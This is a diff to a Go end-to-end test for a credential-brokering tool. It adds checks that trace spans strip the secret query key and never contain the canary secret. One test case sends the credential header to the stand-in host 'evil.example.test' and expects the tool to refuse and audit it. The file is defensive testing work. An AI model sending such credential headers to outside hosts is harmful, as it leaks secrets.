@@ -8,6 +8,8 @@ import (
 	"strings"
 	"testing"
 	"time"
+
+	tracepb "go.opentelemetry.io/proto/otlp/trace/v1"
 )
 
 // policyE2E: a placeholder credential whose placeholder `wirken exec` hands the agent, a query
@@ -86,6 +88,28 @@ func TestPolicyE2E(t *testing.T) {
 		if r.stdout != "200" || len(qs) != 2 || qs[1] != "a=1&key="+e.canary {
 			t.Fatalf("status %q, upstream queries %q", r.stdout, qs)
 		}
+		// The span carries the URL without its query, so without the key.
+		var url string
+		e.otlp.waitFor(t, "the query request's span", func(spans []*tracepb.Span, _ map[string]bool) bool {
+			for _, s := range spans {
+				if a := spanAttrs(s); a["wirken.rule"] == "demo-query" {
+					url = a["url.full"]
+					return true
+				}
+			}
+			return false
+		})
+		if url != "https://api.example.test/q" {
+			t.Fatalf("span url.full = %q", url)
+		}
+		e.otlp.waitFor(t, "spans without the secret", func(spans []*tracepb.Span, _ map[string]bool) bool {
+			for _, s := range spans {
+				if strings.Contains(s.String(), e.canary) {
+					t.Fatalf("a span holds the secret: %v", s)
+				}
+			}
+			return true
+		})
 	})
 	t.Run("placeholder toward another host is refused and audited", func(t *testing.T) {
 		r := sh(curl("evil.example.test", "127.0.0.3", "/", `-H "X-Key: $API_KEY"`))
